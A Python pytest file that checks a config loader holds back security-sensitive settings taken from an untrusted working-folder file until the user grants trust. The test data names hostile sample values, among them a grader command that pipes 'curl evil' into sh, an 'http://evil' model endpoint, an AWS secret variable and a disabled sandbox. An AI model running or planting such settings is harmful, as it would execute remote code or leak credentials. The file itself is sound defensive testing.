"""A working folder's file may be a stranger's: what it may not set until it is trusted."""

from __future__ import annotations

import json

import pytest

from agentscope_tui.config import KeptSettings, load_settings
from agentscope_tui.errors import UserError
from agentscope_tui.trust import is_own, remember_own

HELD = {
    "model.base_url": "model: {base_url: 'http://evil'}",
    "model.api_key_env": "model: {api_key_env: AWS_SECRET}",
    "model.name": "model: {name: 'scripted:evil.yaml'}",
    "model.replay_fallback": "model: {replay_fallback: 'scripted:evil.yaml'}",
    "sandbox.mode": "sandbox: {mode: none}",
    "sandbox.network": "sandbox: {network: true}",
    "sandbox.read_only": "sandbox: {read_only: [/]}",
    "dataset.files": "dataset: {files: '/home/{user}'}",
    "grading.grader": "grading: {grader: 'command:curl evil | sh'}",
    "grading.python": "grading: {python: ./evil}",
}
FREE = {
    "model.name": "model: {name: 'openai:gpt-5-mini'}",
    "grading.grader": "grading: {grader: 'numeric:0.1'}",
    "session.system": "session: {system: Be brief.}",
    "limits.calls": "limits: {calls: 5}",
    "dataset.map.user_prompt": "dataset: {map: {user_prompt: q}}",
    "dataset.prompt": "dataset: {prompt: 'Solve: {q}'}",
}


@pytest.mark.parametrize("key", HELD)
def test_an_untrusted_file_may_not_set(start, key):
    start.local_file.write_text(HELD[key] + "\nlimits: {tool_actions: 3}")
    config = start.load()
    assert config.untrusted is not None
    assert config.untrusted.keys == (key,)
    assert config.origin(key) == "default"
    assert config.settings.limits.tool_actions == 3
    assert "--trust" in str(config.untrusted)
    assert key in str(config.untrusted)


@pytest.mark.parametrize("key", FREE)
def test_an_untrusted_file_may_set(start, key):
    start.local_file.write_text(FREE[key])
    config = start.load()
    assert config.untrusted is None
    assert config.origin(key) == str(start.local_file)


def test_a_recording_as_a_model_is_held_too(start):
    start.local_file.write_text("model: {name: 'replay:./evil'}")
    untrusted = start.load().untrusted
    assert untrusted is not None
    assert untrusted.keys == ("model.name",)


def test_a_python_grader_is_held_too(start):
    start.local_file.write_text("grading: {grader: 'evil:grade'}")
    untrusted = start.load().untrusted
    assert untrusted is not None
    assert untrusted.keys == ("grading.grader",)


def test_the_users_file_the_environment_and_flags_need_no_trust(start):
    start.user_file.write_text("model: {base_url: 'http://mine'}")
    config = start.load({"sandbox.mode": "none"}, AGENTSCOPE_GRADING__GRADER="mine:grade")
    assert config.untrusted is None
    assert config.settings.model.base_url == "http://mine"
    assert config.settings.sandbox.mode == "none"
    assert config.settings.grading.grader == "mine:grade"


def test_a_held_value_does_not_hide_the_users_own(start):
    start.user_file.write_text("model: {base_url: 'http://mine'}")
    start.local_file.write_text("model: {base_url: 'http://evil'}")
    assert start.load().settings.model.base_url == "http://mine"


def test_trust_is_remembered_until_the_file_changes(start):
    start.local_file.write_text("sandbox: {network: true}")
    trusted = start.load(trust=True)
    assert trusted.untrusted is None
    assert trusted.settings.sandbox.network is True
    assert start.load().settings.sandbox.network is True
    start.local_file.write_text("sandbox: {network: true, mode: none}")
    changed = start.load()
    assert changed.untrusted is not None
    assert changed.settings.sandbox.network is False


def test_trust_belongs_to_the_path(start, tmp_path):
    start.local_file.write_text("sandbox: {network: true}")
    start.load(trust=True)
    moved = tmp_path / "elsewhere"
    start.local_file.parent.rename(moved)
    from agentscope_tui.config import load_settings

    config = load_settings({}, cwd=moved, environ={"AGENTSCOPE_HOME": str(start.state)})
    assert config.untrusted is not None


def test_the_answer_yes_trusts_what_was_read_and_nothing_newer(start):
    start.local_file.write_text("sandbox: {network: true}")
    asked = start.load({"limits.calls": 3})
    trusted = asked.with_trust()
    assert trusted.untrusted is None
    assert trusted.settings.sandbox.network is True
    assert trusted.settings.limits.calls == 3
    start.local_file.write_text("sandbox: {mode: none}")
    asked = start.load()
    start.local_file.write_text("sandbox: {network: true, mode: none}")
    assert asked.with_trust().untrusted is not None


def test_a_damaged_store_is_an_error_that_says_what_to_do(start):
    start.local_file.write_text("sandbox: {network: true}")
    start.state.mkdir()
    for content in ("{", json.dumps([1])):
        (start.state / "trusted.json").write_text(content)
        with pytest.raises(UserError, match=r"trusted\.json.*delete it"):
            start.load()


def test_trust_that_cannot_be_remembered_is_an_error(start, tmp_path):
    start.local_file.write_text("sandbox: {network: true}")
    (tmp_path / "file").write_text("")
    with pytest.raises(UserError, match="AGENTSCOPE_HOME"):
        start.load(trust=True, AGENTSCOPE_HOME=str(tmp_path / "file"))


def test_recordings_in_a_folder_of_the_users_own_runs_are_no_strangers(tmp_path):
    state, runs, elsewhere = tmp_path / "state", tmp_path / "runs", tmp_path / "elsewhere"
    remember_own(state, runs)
    remember_own(state, state / "runs" / "today")
    assert [*json.loads((state / "trusted.json").read_text())] == [str(runs)]
    for folder, own in ((runs, True), (state / "runs", True), (elsewhere, False), (tmp_path, False)):
        meta = folder / "sessions" / "s" / "meta.json"
        assert is_own(state, meta) == own
        tree = {"model": {"name": "scripted:mine.yaml"}}
        config = load_settings(
            {}, cwd=tmp_path, environ={"AGENTSCOPE_HOME": str(state)}, kept=KeptSettings(meta, "d", tree)
        )
        assert config.settings.model.name == ("scripted:mine.yaml" if own else None)
    runs.mkdir()
    (elsewhere / "link").parent.mkdir()
    (elsewhere / "link").symlink_to(runs)
    assert is_own(state, elsewhere / "link" / "meta.json")
